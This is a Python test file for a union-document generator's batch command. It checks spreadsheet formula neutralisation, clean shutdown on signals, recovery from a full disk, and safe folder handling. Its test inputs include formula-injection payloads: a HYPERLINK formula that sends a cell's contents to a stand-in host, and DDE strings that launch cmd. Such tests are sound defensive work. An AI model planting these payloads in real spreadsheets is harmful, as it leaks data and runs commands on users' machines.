"""`tutorbargain batch` against hostile spreadsheets and bad luck (issue 11, the batch part).

Each test runs the real command and reads back what a staffer would see: report.csv opened as a
spreadsheet reads it, the folders left behind, the message printed.
"""

from __future__ import annotations

import contextlib
import csv
import errno
import os
import signal
import subprocess
import sys
import time
from collections.abc import Mapping, Sequence
from pathlib import Path
from subprocess import Popen

import pytest

from conftest import ROOT, docx_text, run_cli
from tutorbargain import batch
from tutorbargain.answers.fields import FIELDS
from tutorbargain.writers.output import slugify

COLUMNS = [f.name for f in FIELDS]
COMMAND = [sys.executable, "-m", "tutorbargain"]
ROW = {
    "local.name": "Cedar Hollow Education Association",
    "district.name": "Cedar Hollow School District",
    "district.state": "OH",
    "school_year": "2026-27",
    "bargaining.status": "cba",
    "program.provider": "in_house",
    "program.delivery": "in_person",
    "pay.tutoring_hourly_rate": "$45.00",
    "funding.ends": "2027-06-30",
}
FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
]


def write_csv(path: Path, rows: Sequence[Mapping[str, object]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(COLUMNS)
        for row in rows:
            writer.writerow([row.get(name, "") for name in COLUMNS])
    return path


def read_report(out: Path) -> list[dict[str, str]]:
    with (out / "report.csv").open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def locals_named(names: Sequence[str]) -> list[dict[str, str]]:
    return [{**ROW, "local.name": name} for name in names]


def numbered(count: int) -> list[dict[str, str]]:
    return locals_named([f"Cedar Hollow Unit {n}" for n in range(1, count + 1)])


# ---------------------------------------------------------------- formula injection


def _assert_inert(report: list[dict[str, str]], names: Sequence[str]) -> None:
    assert [r["local"] for r in report] == ["'" + name for name in names]
    for row in report:
        for value in row.values():
            assert not value.startswith(batch.FORMULA_STARTS), value


def test_formulas_in_csv_names_are_inert_in_the_report(tmp_path: Path) -> None:
    source = write_csv(tmp_path / "locals.csv", locals_named(FORMULAS))
    out = tmp_path / "out"
    result = run_cli(["batch", str(source), "-o", str(out)])
    assert "Traceback" not in result.err
    _assert_inert(read_report(out), FORMULAS)
    # The documents keep the name as typed: only the spreadsheet cell is neutralized.
    rendered = [r for r in read_report(out) if r["status"] == "rendered"]
    assert rendered, result.out + result.err
    for row in rendered:
        first = out / row["outputs"].split("; ")[0]
        assert row["local"][1:] in docx_text(first)


def test_formulas_in_xlsx_text_cells_are_inert_in_the_report(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(COLUMNS)
    for number, row in enumerate(locals_named(FORMULAS), start=2):
        sheet.append([row.get(c) or None for c in COLUMNS])
        cell = sheet.cell(row=number, column=COLUMNS.index("local.name") + 1)
        cell.data_type = "s"  # a text cell that starts with "=", as Excel stores '=...
    source = tmp_path / "locals.xlsx"
    workbook.save(source)
    out = tmp_path / "out"
    result = run_cli(["batch", str(source), "-o", str(out)])
    assert "Traceback" not in result.err
    _assert_inert(read_report(out), FORMULAS)


def test_a_tab_or_carriage_return_start_is_neutralized_too() -> None:
    for text in ("\tcmd", "\rcmd", "=1", "+1", "-1", "@x"):
        assert batch.spreadsheet_cell(text) == "'" + text
    assert batch.spreadsheet_cell("Cedar Hollow") == "Cedar Hollow"
    assert batch.spreadsheet_cell(7) == 7


def test_the_template_spreadsheets_hold_no_formula(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    csv_path, xlsx_path = tmp_path / "t.csv", tmp_path / "t.xlsx"
    assert run_cli(["batch", "--template", str(csv_path)]).code == 0
    assert run_cli(["batch", "--template", str(xlsx_path)]).code == 0
    with csv_path.open(encoding="utf-8-sig", newline="") as handle:
        for record in csv.reader(handle):
            assert not any(cell.startswith(batch.FORMULA_STARTS) for cell in record)
    workbook = openpyxl.load_workbook(xlsx_path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate


# ---------------------------------------------------------------- runs that stop, or overlap


def _children(pid: int) -> set[int]:
    """The live processes whose parent is ``pid`` (Linux /proc)."""
    found = set()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            with contextlib.suppress(OSError):
                fields = (entry / "stat").read_text().rpartition(")")[2].split()
                if int(fields[1]) == pid and fields[0] != "Z":
                    found.add(int(entry.name))
    return found


def _running(pid: int) -> bool:
    try:
        state = (Path("/proc") / str(pid) / "stat").read_text().rpartition(")")[2].split()[0]
    except OSError:
        return False
    return state != "Z"


def _start_long_batch(tmp_path: Path, *extra: str, rows: int = 120) -> tuple[Popen[str], Path]:
    """Start a batch of ``rows`` locals and wait until its first document is on disk."""
    source = write_csv(tmp_path / "locals.csv", numbered(rows))
    out = tmp_path / "out"
    env = {**os.environ, "NO_COLOR": "1", "TERM": "dumb"}
    process = subprocess.Popen(
        [*COMMAND, "batch", str(source), "-o", str(out), *extra],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=ROOT,
        env=env,
        start_new_session=True,
    )
    deadline = time.monotonic() + 120
    while not list(out.glob("*/*.docx")):
        assert process.poll() is None, process.communicate()
        assert time.monotonic() < deadline, "the batch never wrote a document"
        time.sleep(0.05)
    return process, out


def _wait_until_gone(pids: set[int]) -> set[int]:
    deadline = time.monotonic() + 30
    while any(_running(p) for p in pids) and time.monotonic() < deadline:
        time.sleep(0.1)
    return {p for p in pids if _running(p)}


skip_without_proc = pytest.mark.skipif(
    not Path("/proc/self/stat").exists(), reason="needs Linux /proc"
)


@skip_without_proc
@pytest.mark.parametrize("jobs", [1, 4])
def test_sigterm_stops_like_ctrl_c(tmp_path: Path, jobs: int) -> None:
    process, out = _start_long_batch(tmp_path, "--jobs", str(jobs))
    workers = _children(process.pid)
    os.kill(process.pid, signal.SIGTERM)  # `kill PID`, as a service manager stops a job
    _, err = process.communicate(timeout=120)

    assert process.returncode == 143, err
    assert "Traceback" not in err
    assert "Stopped." in err and "SIGTERM" in err
    assert not _wait_until_gone(workers), "a worker went on after the batch stopped"
    report = read_report(out)
    assert len(report) == 120
    statuses = [r["status"] for r in report]
    assert "not done" in statuses and "rendered" in statuses
    assert set(statuses) <= {"rendered", "not done"}
    rendered = [r for r in report if r["status"] == "rendered"]
    assert len({p.parent for p in out.rglob("*.docx")}) == len(rendered)
    assert not list(out.rglob("*.part"))
    assert not (out / batch.LOCK_NAME).exists()


@skip_without_proc
def test_workers_end_when_the_batch_is_killed_and_a_rerun_cleans_up(tmp_path: Path) -> None:
    process, out = _start_long_batch(tmp_path, "--jobs", "2")
    deadline = time.monotonic() + 60
    while len(workers := _children(process.pid)) < 2 and time.monotonic() < deadline:
        time.sleep(0.05)
    assert workers
    os.kill(process.pid, signal.SIGKILL)  # no chance to clean up: the kernel ends it
    process.communicate(timeout=60)
    assert not _wait_until_gone(workers), "workers went on writing for a dead batch"
    folders = {p for p in out.iterdir() if p.is_dir()}
    time.sleep(1.0)
    assert {p for p in out.iterdir() if p.is_dir()} == folders

    # What SIGKILL can leave: the lock of a dead run, and a temporary of ours mid-write.
    assert (out / batch.LOCK_NAME).exists()
    first = sorted(folders)[0]
    stale = first / f".{first.name}-mou.docx.0123456789abcdef.part"
    stale.write_bytes(b"half a document")
    theirs = first / "notes.part"
    theirs.write_text("the team's own file\n")
    again = run_cli(["batch", str(tmp_path / "locals.csv"), "-o", str(out), "--force"])

    assert again.code == 0, again.err
    assert "Taking over" in again.out + again.err and "no longer running" in again.out
    assert not stale.exists()
    assert theirs.read_text() == "the team's own file\n"
    assert not (out / batch.LOCK_NAME).exists()
    assert [r["status"] for r in read_report(out)] == ["rendered"] * 120


@skip_without_proc
def test_a_second_batch_into_the_same_folder_refuses_naming_the_first(tmp_path: Path) -> None:
    process, out = _start_long_batch(tmp_path, "--jobs", "1", rows=200)
    try:
        other = tmp_path / "other.csv"
        write_csv(other, locals_named(["Pine Valley Education Association"]))
        second = run_cli(["batch", str(other), "-o", str(out)])
        still_running = process.poll() is None
    finally:
        os.kill(process.pid, signal.SIGTERM)
        process.communicate(timeout=120)
    if not still_running:
        pytest.skip("the first batch finished before the second one started")
    assert second.code == 1, second.out + second.err
    assert second.err.startswith("Error: ")
    assert "in use by another tutorbargain batch" in second.err
    assert f"process {process.pid}" in second.err
    assert not (out / "pine-valley-education-association").exists()
    # The first run's report is its own: every row is the first spreadsheet's.
    assert all(r["local"].startswith("Cedar Hollow Unit") for r in read_report(out))


# ---------------------------------------------------------------- a full disk mid-row


@pytest.mark.skipif(not Path("/proc/self/fd").exists(), reason="needs Linux /proc")
def test_a_row_that_fails_mid_write_leaves_nothing_and_a_rerun_writes_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from typer.testing import CliRunner

    from tutorbargain.cli import app

    source = write_csv(tmp_path / "locals.csv", locals_named([ROW["local.name"]]))
    out = tmp_path / "out"
    real_write = os.write

    def disk_full_at_the_second_document(fd: int, data: bytes) -> int:
        if "impact-questions.docx" in os.readlink(f"/proc/self/fd/{fd}"):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_write(fd, data)

    with monkeypatch.context() as patch:  # the MOU is written, then the disk is full
        patch.setattr(os, "write", disk_full_at_the_second_document)
        failed = CliRunner().invoke(app, ["batch", str(source), "-o", str(out)])
    assert failed.exit_code == 1, failed.output
    (row,) = read_report(out)
    assert row["status"] == "failed" and "No space left on device" in row["message"]
    folder = out / slugify(ROW["local.name"])
    assert not [p for p in folder.rglob("*") if p.is_file()], "a failed row left files behind"

    again = run_cli(["batch", str(source), "-o", str(out)])
    assert again.code == 0, again.err
    assert "already exists" not in again.out + again.err
    (row,) = read_report(out)
    assert row["status"] == "rendered"
    assert ROW["local.name"] in docx_text(out / row["outputs"].split("; ")[0])


# ---------------------------------------------------------------- a broken CSV


def test_an_unclosed_quote_names_the_row_where_it_opens(tmp_path: Path) -> None:
    source = write_csv(tmp_path / "locals.csv", numbered(3))
    lines = source.read_text(encoding="utf-8").splitlines(keepends=True)
    lines[2] = lines[2].replace("Cedar Hollow Unit 2", '"Cedar Hollow Unit 2', 1)
    source.write_text("".join(lines), encoding="utf-8")
    out = tmp_path / "out"
    result = run_cli(["batch", str(source), "-o", str(out), "--dry-run"])
    assert result.code == 1, result.out
    assert result.err.startswith(f"Error: {source}, row 3 (line 3): opens a quote")
    assert "never closed" in result.err
    assert not out.exists()


# ---------------------------------------------------------------- folders


def test_a_local_folder_that_is_a_symlink_is_refused(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    source = write_csv(tmp_path / "locals.csv", numbered(2))
    out = tmp_path / "out"
    out.mkdir()
    (out / slugify("Cedar Hollow Unit 1")).symlink_to(elsewhere)
    result = run_cli(["batch", str(source), "-o", str(out)])
    assert result.code == 1
    assert "is a symbolic link" in result.out
    assert list(elsewhere.iterdir()) == []
    assert [r["status"] for r in read_report(out)] == ["failed", "rendered"]


def test_windows_device_names_get_a_safe_folder(tmp_path: Path) -> None:
    source = write_csv(tmp_path / "locals.csv", locals_named(["CON", "nul", "Com1"]))
    out = tmp_path / "out"
    result = run_cli(["batch", str(source), "-o", str(out)])
    assert result.code == 0, result.err
    folders = sorted(p.name for p in out.iterdir() if p.is_dir())
    assert folders == ["com1-local", "con-local", "nul-local"]
    for folder in folders:
        assert docx_text(out / folder / f"{folder}-mou.docx")


def test_more_jobs_than_cores_is_capped_with_one_line(tmp_path: Path) -> None:
    source = write_csv(tmp_path / "locals.csv", numbered(2))
    result = run_cli(["batch", str(source), "-o", str(tmp_path / "out"), "--jobs", "40"])
    cores = batch.usable_cores()
    assert result.code == 0, result.err
    lines = [line for line in result.out.splitlines() if "--jobs" in line]
    assert lines == [
        f"Using --jobs {cores}: this computer has {cores} CPU core{'s' if cores != 1 else ''}, "
        "and more workers than cores only add waiting (40 were asked for)."
    ]
